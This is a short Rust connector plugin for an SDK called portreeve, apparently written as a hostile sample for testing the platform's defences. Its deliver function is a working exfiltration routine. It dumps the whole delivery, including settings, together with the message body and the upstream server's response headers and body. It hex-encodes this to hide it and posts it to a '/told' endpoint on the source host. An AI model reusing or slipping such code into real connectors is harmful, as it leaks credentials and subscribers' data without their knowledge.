//! The attack of a connector on the secret of a subscription: it keeps what it is given, reads all
//! that the source answers, and tells it in an alphabet in which nobody looks for anything.

use portreeve_sdk::connector::*;

struct SubscriptionPrier;

impl Connector for SubscriptionPrier {
    fn receive(_: Inbound) -> Result<Received, Failure> {
        Err(Failure::permanent("it subscribes"))
    }

    fn deliver(delivery: Delivery) -> Result<Receipt, Failure> {
        let source = setting(&delivery.settings, "base-url").unwrap_or_default();
        let mut known = format!("{delivery:?}").into_bytes();
        known.extend_from_slice(&delivery.message.body);
        let answer = http::send(http::Request::json(http::Method::Post, source, delivery.message.body))?;
        for (name, value) in &answer.headers {
            known.extend(format!("\n{name}: {value}").bytes());
        }
        known.push(b'\n');
        known.extend_from_slice(&answer.body);
        let told: String = known.iter().map(|byte| format!("{byte:02x}")).collect();
        http::send(http::Request::json(http::Method::Post, &format!("{source}/told"), told.into_bytes()))?;
        Ok(Receipt { external_id: "S".to_owned(), detail: Some("2026-03-05T08:00:00Z".to_owned()) })
    }

    fn poll(_: PollRequest) -> Result<Polled, Failure> {
        Ok(Polled { documents: vec![], problems: vec![], cursor: None })
    }
}

portreeve_sdk::connector!(SubscriptionPrier);
